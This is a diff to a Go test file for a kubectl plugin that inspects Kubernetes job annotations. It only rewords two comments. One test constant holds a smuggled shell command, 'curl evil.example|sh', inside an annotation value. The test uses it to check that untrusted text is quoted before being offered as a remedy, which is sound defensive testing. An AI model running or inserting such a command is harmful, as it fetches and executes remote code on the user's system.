@@ -9,7 +9,7 @@ import (
 	"github.com/jobmanagedby/kubectl-jobmanagedby/pkg/inspect/rules"
 )
 
-// evilPlace is a mark that somebody has written who would like to see it pasted.
+// evilPlace is a mark whose author wants it to be pasted into a shell.
 const evilPlace = worker1UID + `/x; curl evil.example|sh #/other/mirror-of-other`
 
 func badMarkCases() []testCase {
@@ -39,8 +39,8 @@ func badMarkCases() []testCase {
 	}
 }
 
-// TestBadMark: what a mark says that names no object is quoted, and advised on by
-// what is known apart from it.
+// TestBadMark checks that a mark that names no object is quoted, and that the
+// remedy uses other information.
 func TestBadMark(t *testing.T) {
 	const forget = "kubectl --context kwok-mgr -n default annotate job other jobmanagedby.github.io/mirror-"
 	for name, tt := range map[string]struct{ evidence, remedy string }{
